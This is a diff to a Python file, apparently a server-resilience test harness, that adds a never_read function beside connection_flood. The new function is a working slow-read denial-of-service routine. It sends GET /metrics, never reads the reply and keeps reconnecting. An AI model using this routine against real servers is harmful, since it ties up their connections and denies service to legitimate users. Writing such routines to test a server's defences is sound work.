@@ -230,3 +230,33 @@ def connection_flood(address: tuple[str, int], until: float, held: int = 4) -> i
         for sock in socks:
             sock.close()
     return opened
+
+
+def never_read(address: tuple[str, int], until: float, receive_buffer: int = 4096) -> int:
+    """A GET /metrics sent whole, then nothing read: the answer fills the socket's buffers (a small receive buffer,
+    as an attacker sets it) and the server's write stands still. Reconnects as soon as the server drops it (seen
+    as POLLRDHUP, which needs no read), so that it holds what it can for the whole attack."""
+    import select
+
+    opened = 0
+    while time.monotonic() < until and opened < MAX_ATTEMPTS:
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        if receive_buffer:  # 0: the system's default
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
+        sock.settimeout(2.0)
+        try:
+            sock.connect(address)
+            sock.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
+        except OSError:
+            sock.close()
+            time.sleep(0.01)
+            continue
+        opened += 1
+        poller = select.poll()
+        poller.register(sock, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
+        try:
+            while time.monotonic() < until and not poller.poll(100):
+                pass
+        finally:
+            sock.close()
+    return opened
